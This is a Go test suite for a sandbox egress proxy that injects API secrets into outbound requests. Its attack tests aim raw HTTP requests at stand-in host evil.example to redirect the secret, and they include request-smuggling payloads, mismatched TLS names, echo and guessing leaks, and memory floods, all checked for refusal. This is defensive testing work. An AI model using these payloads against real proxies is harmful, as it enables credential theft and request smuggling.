package egress_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/actiond/actiond/egress"
	"github.com/actiond/actiond/internal/testhelp"
)

// TestAttackSecretToOtherHost: requests of a connection to one host name another (row 17). Each denial
// is recorded and told, and nothing is sent.
func TestAttackSecretToOtherHost(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	f.site(t, "api.example", "8.8.8.8:443", func(_ http.ResponseWriter, r *http.Request) {
		if r.Host != "api.example" {
			t.Errorf("the host got %q", r.Host)
		}
	})
	for text, want := range map[string]string{
		"GET / HTTP/1.1\r\nHost: api.example\r\n\r\n":                                          "",
		"GET / HTTP/1.1\r\nHost: API.example.:443\r\n\r\n":                                     "",
		"GET https://api.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n":                      "", // the target wins, and is sent
		"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n":                                         "evil.example:443",
		"GET / HTTP/1.1\r\nHost: evil.example:8443\r\n\r\n":                                    "evil.example:8443",
		"GET / HTTP/1.1\r\nHost: api.example:80\r\n\r\n":                                       "api.example:80",
		"GET / HTTP/1.1\r\nHost: api.example.evil.example\r\n\r\n":                             "api.example.evil.example:443",
		"GET / HTTP/1.1\r\nHost: 8.8.8.8\r\n\r\n":                                              "8.8.8.8:443",
		"GET / HTTP/1.1\r\nHost: \r\n\r\n":                                                     "api.example:443",
		"GET / HTTP/1.0\r\n\r\n":                                                               "api.example:443",
		"GET https://evil.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n":                      "evil.example:443",
		"GET https://api.example@evil.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n":          "evil.example:443",
		"GET https:evil.example HTTP/1.1\r\nHost: api.example\r\n\r\n":                         "api.example:443",
		"GET / HTTP/1.1\r\nHost: api.example\r\nX: y\r\n\r\nGET / HTTP/1.1\r\nHost: e\r\n\r\n": "", // the first of two
	} {
		before := f.state(t)
		c, err := f.session(t, "api.example", "http/1.1")
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, text)
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Errorf("%q: %v", text, err)
			continue
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if want == "" {
			if res.StatusCode != http.StatusOK {
				t.Errorf("%q: got %s %s", text, res.Status, body)
			}
			continue
		}
		reason := "Blocked by this sandbox's network policy: " + want + " (other host in the request)."
		if res.StatusCode != http.StatusForbidden || res.Header.Get(egress.HeaderDenied) != "other host in the request" || !res.Close || !strings.HasPrefix(string(body), reason) {
			t.Errorf("%q: got %s %q %s", text, res.Status, res.Header, body)
		}
		all := f.denied(t)
		if last := all[len(all)-1]; f.state(t).Denied != before.Denied+1 || !strings.HasSuffix(last, want+" other host in the request #7") {
			t.Errorf("%q: denied %s", text, last)
		}
	}
	// By HTTP/2, in :authority.
	r := request(t, "GET", "https://api.example/", nil)
	r.Host = "evil.example"
	if res, body := get(t, f.client(t, true), r); res.StatusCode != http.StatusForbidden || res.ProtoMajor != 2 || !strings.Contains(body, "evil.example") {
		t.Errorf("got %s %s %s", res.Proto, res.Status, body)
	}
}

// TestAttackHeaderHost: a request of HTTP/2 has a host header beside its :authority (row 17).
func TestAttackHeaderHost(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	hosts := make(chan string, 1)
	f.site(t, "api.example", "8.8.8.8:443", func(_ http.ResponseWriter, r *http.Request) { hosts <- r.Host + r.Header.Get("Host") })
	c, err := f.session(t, "api.example", "h2")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.WriteString(c, http2.ClientPreface)
	framer := http2.NewFramer(c, c)
	_ = framer.WriteSettings()
	var block strings.Builder
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", "api.example"}, {":path", "/"}, {"host", "evil.example"},
	} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte(block.String()), EndStream: true, EndHeaders: true})
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			t.Fatal(err)
		}
		if frame.Header().StreamID == 1 {
			break
		}
	}
	select {
	case host := <-hosts:
		if host != "api.example" {
			t.Errorf("the host got %q", host)
		}
	default: // it was refused
	}
}

// TestAttackSecretServerName: the TLS hello names another host than CONNECT, or none (row 17).
func TestAttackSecretServerName(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	f.site(t, "api.example", "8.8.8.8:443", func(http.ResponseWriter, *http.Request) { t.Error("a request passed") })
	for _, name := range []string{"echo.example", "evil.example", ""} {
		before := f.state(t)
		if _, err := f.session(t, name); err == nil || err.Error() != "remote error: tls: access denied" {
			t.Errorf("%q: got %v", name, err)
		}
		testhelp.Eventually(t, func() bool { return f.state(t).Open == 0 }, "the connection has ended")
		if s := f.state(t); s.Denied != before.Denied+1 || s.Sent != before.Sent {
			t.Errorf("%q: got %+v after %+v", name, s, before)
		}
	}
}

// TestAttackPlain: without TLS there is no secret, at whatever port (row 18).
func TestAttackPlain(t *testing.T) {
	t.Parallel()
	f := start(t, strings.Replace(secret(""), `"echo.example"`, `"api.example"`, 1))
	seen := make(chan string, 2)
	site := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { seen <- r.Header.Get("Authorization") })}
	go site.Serve(f.add(t, "api.example", "8.8.8.8:80"))
	t.Cleanup(func() { site.Close() })
	f.site(t, "api.example", "8.8.8.8:443", func(http.ResponseWriter, *http.Request) { t.Error("a request passed") })
	f.set(func() { f.names["api.example"] = []string{"8.8.8.8"} })
	client := f.client(t, false)
	get(t, client, request(t, "GET", "http://api.example:80/", nil))
	client.CloseIdleConnections()
	if got := <-seen; got != "" {
		t.Errorf("the host got %q", got)
	}
	c, _, _ := f.connect(t, "api.example:443")
	_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: api.example\r\n\r\n")
	if got, _ := io.ReadAll(c); strings.Contains(string(got), "HTTP/1.1 200") {
		t.Errorf("got %q", got)
	}
	testhelp.Eventually(t, func() bool { return f.state(t).Open == 0 }, "the connection has ended")
	if got := f.denied(t); len(got) != 1 || got[0] != "1 api.example:443 unreadable TLS hello #7" {
		t.Errorf("got %q", got)
	}
}

// TestAttackImpostor: a server without a certificate for the host gets no request (row 19).
func TestAttackImpostor(t *testing.T) {
	t.Parallel()
	sandboxConfig, err := egress.ServerTLS(sandboxCA())
	if err != nil {
		t.Fatal(err)
	}
	worldConfig, err := egress.ServerTLS(worldCA())
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := worldConfig.GetCertificate(&tls.ClientHelloInfo{ServerName: "other.example"})
	if err != nil {
		t.Fatal(err)
	}
	for name, config := range map[string]*tls.Config{
		"self-signed":   {Certificates: []tls.Certificate{certificate(t)}},
		"other name":    {Certificates: []tls.Certificate{*leaf}},
		"sandbox's own": sandboxConfig,
		"old":           {Certificates: []tls.Certificate{*leaf}, MaxVersion: tls.VersionTLS11, MinVersion: tls.VersionTLS10},
	} {
		f := start(t, secret(""))
		site := &http.Server{
			Handler:  http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Errorf("%s: a request passed", name) }),
			ErrorLog: slog.NewLogLogger(slog.DiscardHandler, 0),
		}
		go site.Serve(tls.NewListener(f.add(t, "api.example", "8.8.8.8:443"), config))
		t.Cleanup(func() { site.Close() })
		res, body := get(t, f.client(t, true), request(t, "GET", "https://api.example/", nil))
		if res.StatusCode != http.StatusBadGateway || res.Header.Get(egress.HeaderDenied) != "" || !strings.Contains(body, "certificate is not valid") && name != "old" {
			t.Errorf("%s: got %s %q %s", name, res.Status, res.Header, body)
		}
		if s := f.state(t); s.Denied != 0 {
			t.Errorf("%s: got %+v", name, s)
		}
	}
}

// TestAttackEcho: a host sends back what it gets, in each part of a response (row 20).
func TestAttackEcho(t *testing.T) {
	t.Parallel()
	for _, h2 := range []bool{false, true} {
		for _, format := range []string{"", `,"format":"Basic user:{}"`} {
			f := start(t, secret(format))
			f.site(t, "api.example", "8.8.8.8:443", func(w http.ResponseWriter, r *http.Request) {
				_, sent, _ := strings.Cut(r.Header.Get("Authorization"), " ")
				if len(sent) < len(token) {
					t.Errorf("got %q", r.Header)
				}
				w.Header().Set("Link", "<"+token+">")
				w.Header().Set("Trailer", "X-Trailer")
				w.WriteHeader(http.StatusEarlyHints)
				w.Header().Set("X-Header", "is "+sent)
				w.Header().Set("Location", "/?key="+url.QueryEscape(token))
				w.WriteHeader(http.StatusUnauthorized)
				for _, text := range []string{sent, token, url.QueryEscape(token), base64.StdEncoding.EncodeToString([]byte(token)), r.Header.Get("Authorization")} {
					for i := range len(text) {
						_, _ = io.WriteString(w, text[i:i+1])
						if i%10 == 0 {
							_ = http.NewResponseController(w).Flush()
						}
					}
					_, _ = io.WriteString(w, "\n")
				}
				w.Header().Set("X-Trailer", sent)
			})
			r := request(t, "GET", "https://api.example/", nil)
			var early textproto.MIMEHeader
			r = r.WithContext(httptrace.WithClientTrace(r.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
				early = h
				return nil
			}}))
			res, body := get(t, f.client(t, h2), r)
			all := fmt.Sprint(early, res.Header, res.Trailer, body)
			for _, part := range []string{token, token[:12], url.QueryEscape(token)[8:], base64.StdEncoding.EncodeToString([]byte(token))[:12], "c2stMDEyMzQ1", "dXNlcjpzay0w"} {
				if strings.Contains(all, part) {
					t.Errorf("h2=%v: the response has %q: %s", h2, part, all)
				}
			}
			if res.StatusCode != http.StatusUnauthorized || len(early) == 0 || !strings.Contains(res.Trailer.Get("X-Trailer"), "****") ||
				!strings.Contains(res.Header.Get("X-Header"), "is ****") || strings.Count(body, "\n") != 5 || !strings.Contains(body, "Bearer ***") && format == "" {
				t.Errorf("h2=%v: got %q %q %q %q", h2, early, res.Header, res.Trailer, body)
			}
		}
	}
}

// TestAttackEchoNames: a host sends back what it gets as the name of a header or trailer, announced or not (row 20).
func TestAttackEchoNames(t *testing.T) {
	t.Parallel()
	const value = "sk-Canary-0123456789_AbCd"
	for _, h2 := range []bool{false, true} {
		f := start(t, strings.Replace(secret(""), token, value, 1))
		f.site(t, "api.example", "8.8.8.8:443", func(w http.ResponseWriter, r *http.Request) {
			if !strings.Contains(r.Header.Get("Authorization"), value) {
				t.Errorf("got %q", r.Header)
			}
			w.Header().Set(value, "early")
			w.Header().Set("Link", "kept")
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Set("X-"+value+"-Y", "1")
			w.Header()[strings.ToUpper(value)] = []string{"1"}
			w.Header().Set("Trailer", "Kept, T-"+value)
			_, _ = io.WriteString(w, "text")
			_ = http.NewResponseController(w).Flush()
			w.Header().Set("T-"+value, "1")
			w.Header().Set("Kept", "1")
			w.Header().Set(http.TrailerPrefix+"U-"+strings.ToLower(value), "1")
		})
		r := request(t, "GET", "https://api.example/", nil)
		var early textproto.MIMEHeader
		r = r.WithContext(httptrace.WithClientTrace(r.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
			early = h
			return nil
		}}))
		res, body := get(t, f.client(t, h2), r)
		if all := fmt.Sprint(early, res.Header, res.Trailer, body); strings.Contains(strings.ToLower(all), strings.ToLower(value[3:])) {
			t.Errorf("h2=%v: got %s", h2, all)
		}
		if early.Get("Link") != "kept" || res.Trailer.Get("Kept") != "1" || body != "text" {
			t.Errorf("h2=%v: got %q %q %q", h2, early, res.Trailer, body)
		}
	}
}

// TestAttackStreamEcho: a host that streams text of the agent's back does not let it find the secret: how the text
// comes, and that it does before the end, is the same for a right guess and for a wrong one (row 20).
func TestAttackStreamEcho(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	came := make(chan struct{})
	var late atomic.Bool
	f.site(t, "api.example", "8.8.8.8:443", func(w http.ResponseWriter, r *http.Request) {
		for _, part := range []string{"data: 1\n\n", "data: 2 ", r.URL.Query().Get("guess")} {
			_, _ = io.WriteString(w, part)
			_ = http.NewResponseController(w).Flush()
		}
		select {
		case <-came:
		case <-time.After(10 * time.Second):
			late.Store(true)
		}
	})
	for _, h2 := range []bool{false, true} {
		client := f.client(t, h2)
		for known := range len(token) - 1 {
			for _, guess := range []string{token[:known+1], token[:known] + "~"} {
				if known+1 == 8 && guess == token[:8] {
					continue // the guess of so many at once shows
				}
				res, err := client.Do(request(t, "GET", "https://api.example/?guess="+url.QueryEscape(guess), nil))
				if err != nil {
					t.Fatal(err)
				}
				all := "data: 1\n\ndata: 2 " + guess
				if known >= 8 && guess[:8] == token[:8] {
					all = all[:len(all)-len(guess)] // what is behind the first bytes of a value waits for more
				}
				got := make([]byte, len(all))
				if _, err := io.ReadFull(res.Body, got); err != nil || string(got) != all {
					t.Errorf("h2=%v: got %q, %v, want %q", h2, got, err, all)
				}
				if late.Load() {
					t.Fatalf("h2=%v: %q came at the end alone", h2, guess)
				}
				came <- struct{}{}
				res.Body.Close()
			}
		}
	}
}

// TestAttackMethods: methods and upgrades that show a request, or leave HTTP, are refused (row 20, 22).
func TestAttackMethods(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	f.site(t, "api.example", "8.8.8.8:443", func(_ http.ResponseWriter, r *http.Request) { t.Errorf("%s passed", r.Method) })
	for text, want := range map[string]string{
		"TRACE / HTTP/1.1\r\nHost: api.example\r\n\r\n":                                                                          "method not allowed with a secret",
		"trace / HTTP/1.1\r\nHost: api.example\r\n\r\n":                                                                          "method not allowed with a secret",
		"TRACK / HTTP/1.1\r\nHost: api.example\r\n\r\n":                                                                          "method not allowed with a secret",
		"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n":                                                      "method not allowed with a secret",
		"GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n":                                     "upgrade not allowed with a secret",
		"GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n":                          "upgrade not allowed with a secret",
		"GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: TLS/1.3\r\n\r\n":           "upgrade not allowed with a secret",
		"GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: \r\n\r\n": "upgrade not allowed with a secret",
	} {
		c, err := f.session(t, "api.example", "http/1.1")
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, text)
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Errorf("%q: %v", text, err)
			continue
		}
		res.Body.Close()
		if res.StatusCode != http.StatusForbidden || res.Header.Get(egress.HeaderDenied) != want {
			t.Errorf("%q: got %s %q", text, res.Status, res.Header)
		}
	}
}

// TestAttackSmuggledRequest: what a host could read as a second request comes to it as a body, or not
// at all (row 22).
func TestAttackSmuggledRequest(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	seen := make(chan string, 10)
	f.site(t, "api.example", "8.8.8.8:443", func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen <- r.Method + " " + r.RequestURI + " " + string(body)
	})
	const inner = "GET /admin HTTP/1.1\r\nHost: evil.example\r\n\r\n"
	for text, want := range map[string]string{
		"POST /a HTTP/1.1\r\nHost: api.example\r\nContent-Length: 43\r\n\r\n" + inner:                                                      "POST /a " + inner,
		"POST /b HTTP/1.1\r\nHost: api.example\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n2b\r\n" + inner + "\r\n0\r\n\r\n": "POST /b " + inner,
		"POST /c HTTP/1.1\r\nHost: api.example\r\nContent-Length: 1\r\nContent-Length: 43\r\n\r\n" + inner:                                 "",
		"POST /d HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + inner:                                    "",
		"POST /e HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + inner:                                    "",
		"GET /f HTTP/1.1\r\nHost: api.example\r\nX: a\rGET /admin HTTP/1.1\r\n\r\n":                                                        "",
		"GET /g\r\nX: HTTP/1.1\r\nHost: api.example\r\n\r\n":                                                                               "",
	} {
		c, err := f.session(t, "api.example", "http/1.1")
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(c, strings.Replace(text, "Host", "Connection: close\r\nHost", 1))
		answers, _ := io.ReadAll(c)
		select {
		case got := <-seen:
			if got != want {
				t.Errorf("%q: the host got %q", text, got)
			}
		default:
			if want != "" {
				t.Errorf("%q: the host got nothing; %q", text, answers)
			}
		}
		if strings.Count(string(answers), "HTTP/1.1 200") > 1 {
			t.Errorf("%q: got %q", text, answers)
		}
	}
	if len(seen) > 0 {
		t.Errorf("the host got %q", <-seen)
	}
}

// TestAttackHeaderLines: a header within TLS that consists of short lines does not take memory (row 28).
func TestAttackHeaderLines(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	f.site(t, "api.example", "8.8.8.8:443", func(http.ResponseWriter, *http.Request) { t.Error("a request passed") })
	c, err := f.session(t, "api.example", "http/1.1")
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for i := range 10000 {
		fmt.Fprintf(&text, "%x:\n", i)
	}
	go func() { _, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: api.example\r\n"+text.String()+"\r\n") }()
	if got, _ := io.ReadAll(c); strings.Contains(string(got), "200 OK") {
		t.Errorf("got %q", got)
	}
}

// TestAttackHeldHeaders: requests with large headers to a host that does not answer do not fill the
// memory of the proxy; once they have ended there is room again.
func TestAttackHeldHeaders(t *testing.T) {
	t.Parallel()
	const mebibytes, size, beside = 8, 60 << 10, 40 << 10 // the last is what each takes beside its headers
	f := start(t, secret(""))
	answer := make(chan struct{})
	f.site(t, "api.example", "8.8.8.8:443", func(_ http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-Large") != "" {
			<-answer
		}
	})
	release := sync.OnceFunc(func() { close(answer) })
	t.Cleanup(release) // before the host's end, which waits for its requests
	f.Unlimit(id)
	large := func(c *http.Client) (status int) {
		r := request(t, "GET", "https://api.example/", nil)
		r.Header.Set("X-Large", strings.Repeat("x", size))
		res, err := c.Do(r)
		switch {
		case err == nil:
			res.Body.Close()
			return res.StatusCode
		case strings.Contains(err.Error(), "too many connections"): // a 503 ends its connection, and each of the next requests makes one
			return http.StatusServiceUnavailable
		}
		return 0 // it was on the connection of another's 503
	}
	const sent, full = 200, mebibytes<<20 - 2*(size+beside)
	var refused, answered atomic.Int64
	var all sync.WaitGroup
	var c *http.Client
	for i := range sent {
		if i%50 == 0 { // one connection with at most 100 requests
			c = f.client(t, true)
			get(t, c, request(t, "GET", "https://api.example/", nil))
		}
		by := c
		all.Go(func() {
			for once := sync.OnceFunc(func() { refused.Add(1) }); ; { // it tries again, as agents do
				switch large(by) {
				case http.StatusOK:
					answered.Add(1)
					return
				case http.StatusServiceUnavailable:
					once()
				}
				select {
				case <-answer:
					return
				case <-time.After(10 * time.Millisecond):
				}
			}
		})
	}
	const most = mebibytes << 20 / (size + beside) // some wait in the proxy for a connection to the host
	testhelp.Eventually(t, func() bool { return refused.Load() >= sent-most && f.Held() > full }, "there are as many as can be")
	if held := f.Held(); held > mebibytes<<20 {
		t.Errorf("%d bytes are held", held)
	}
	release()
	all.Wait()
	if answered.Load() < most-5 {
		t.Errorf("of %d requests %d were answered", sent, answered.Load())
	}
	testhelp.Eventually(t, func() bool { return large(c) == http.StatusOK }, "there is room again")
	testhelp.Eventually(t, func() bool { return f.Held() == 0 }, "no bytes are counted any more")
}

// TestAttackStalledBodies: a sandbox whose bodies are read at neither end holds a bounded part of the
// proxy's memory; what is beyond that speaks HTTP/1.1, and others still get answers.
func TestAttackStalledBodies(t *testing.T) {
	t.Parallel()
	const most, window = 8 << 20 / ((256 + 64) << 10), 256 << 10 // HTTP/2 connections of a sandbox
	f := start(t, secret(""))
	var written atomic.Int64 // by the host
	f.site(t, "api.example", "8.8.8.8:443", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/endless" {
			return
		}
		for portion := make([]byte, 16<<10); ; {
			n, err := w.Write(portion)
			if err != nil {
				return
			}
			written.Add(int64(n))
		}
	})
	if err := f.Apply(otherID, egress.Conf{Generation: 1, Policy: parse(t, secret("")), CA: sandboxCA()}); err != nil {
		t.Fatal(err)
	}
	session := func(id string, protocols ...string) (*tls.Conn, error) {
		f.Unlimit(id)
		c := dialSocket(t, f.socket(id))
		fmt.Fprint(c, "CONNECT api.example:443 HTTP/1.1\r\nHost: a\r\n\r\n")
		read(t, c)
		s := tls.Client(net.Conn(c), &tls.Config{ServerName: "api.example", RootCAs: pool(t, sandboxCA()), NextProtos: protocols})
		return s, s.Handshake()
	}
	var all sync.WaitGroup
	defer all.Wait()
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	for range most {
		s, err := session(id, "h2")
		if err != nil {
			t.Fatal(err)
		}
		c := &http.Client{Transport: &http.Transport{
			DialTLSContext: func(context.Context, string, string) (net.Conn, error) { return s, nil }, ForceAttemptHTTP2: true, DisableCompression: true,
			HTTP2: &http.HTTP2Config{MaxReceiveBufferPerConnection: 64 << 10, MaxReceiveBufferPerStream: 64 << 10},
		}}
		get(t, c, request(t, "GET", "https://api.example/", nil)) // two requests at once would make two connections to the host
		for _, body := range []io.Reader{nil, endless{}} {
			all.Go(func() {
				r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://api.example/endless", body)
				if err != nil {
					t.Error(err)
					return
				}
				if res, err := c.Do(r); err == nil {
					defer res.Body.Close()
				}
				<-ctx.Done() // reads nothing
			})
		}
	}
	if _, err := session(id, "h2"); err == nil {
		t.Errorf("a sandbox has more than %d HTTP/2 connections", most)
	}
	// Those of the host and the client are part of the bytes that are under way.
	testhelp.Eventually(t, func() bool { return written.Load() > most*window }, "the attack holds what it can")
	if got, limit := written.Load(), int64(most*(window+2*(64+64)<<10)); got > limit {
		t.Errorf("the hosts wrote %d bytes that nobody reads, want at most %d", got, limit)
	}
	if got := f.Buffered(); got != most*(window+64<<10) {
		t.Errorf("%d bytes are reserved", got)
	}
	answers := func(id, protocol string) {
		t.Helper()
		s, err := session(id, "h2", "http/1.1")
		if err != nil || s.ConnectionState().NegotiatedProtocol != protocol {
			t.Errorf("%s speaks %q, %v, want %q", id, s.ConnectionState().NegotiatedProtocol, err, protocol)
		}
		if protocol == "h2" {
			return
		}
		fmt.Fprint(s, "GET / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n")
		if answer, err := io.ReadAll(s); err != nil || !strings.HasPrefix(string(answer), "HTTP/1.1 200 OK") {
			t.Errorf("%s got %q, %v", id, answer, err)
		}
	}
	answers(id, "http/1.1")
	answers(otherID, "h2")
	cancel()
	for _, id := range []string{id, otherID} {
		if err := f.Disconnect(id); err != nil {
			t.Error(err)
		}
	}
	testhelp.Eventually(t, func() bool { return f.Buffered() == 0 && f.Held() == 0 }, "nothing is reserved any more")
	answers(id, "h2")
}

// endless is a body without an end.
type endless struct{}

func (endless) Read(p []byte) (int, error) { return len(p), nil }

// TestAttackTakeSecret: the policy of one sandbox cannot name the secret of another, and neither can
// read, or pass as, a host of the other (row 25).
func TestAttackTakeSecret(t *testing.T) {
	t.Parallel()
	f := start(t, secret(""))
	f.site(t, "api.example", "8.8.8.8:443", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Header["Authorization"]) })
	f.site(t, "evil.example", "9.9.9.9:443", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Header["Authorization"]) })
	if _, err := egress.ParsePolicy([]byte(`{"mode":"public","secrets":[{"name":"API","hosts":["evil.example"]}]}`)); err == nil {
		t.Error("a secret without a value is accepted")
	}
	ca := newCA(t)
	const own = "own-value-0123"
	p := parse(t, `{"mode":"public","secrets":[{"name":"API","hosts":["evil.example"],"value":"`+own+`","header":"X-Own"}]}`)
	if err := f.Apply(otherID, egress.Conf{Policy: p, CA: ca}); err != nil {
		t.Fatal(err)
	}
	ask := func(host string, roots egress.CA) (string, error) {
		c := dialSocket(t, f.socket(otherID))
		fmt.Fprintf(c, "CONNECT %s:443 HTTP/1.1\r\nHost: a\r\n\r\n", host)
		read(t, c)
		session := tls.Client(net.Conn(c), &tls.Config{ServerName: host, RootCAs: pool(t, roots)})
		fmt.Fprintf(session, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host)
		res, err := http.ReadResponse(bufio.NewReader(session), nil)
		if err != nil {
			return "", err
		}
		defer res.Body.Close()
		body, err := io.ReadAll(res.Body)
		return string(body), err
	}
	// This host has a secret in the other sandbox: here it is an ordinary one, with its own certificate.
	if got, err := ask("api.example", worldCA()); err != nil || got != "[]" {
		t.Errorf("got %q, %v", got, err)
	}
	if got, err := ask("evil.example", ca); err != nil || got != "[]" {
		t.Errorf("got %q, %v", got, err)
	}
	if _, err := ask("evil.example", sandboxCA()); err == nil {
		t.Error("the certificate of one sandbox is trusted in the other")
	}
}
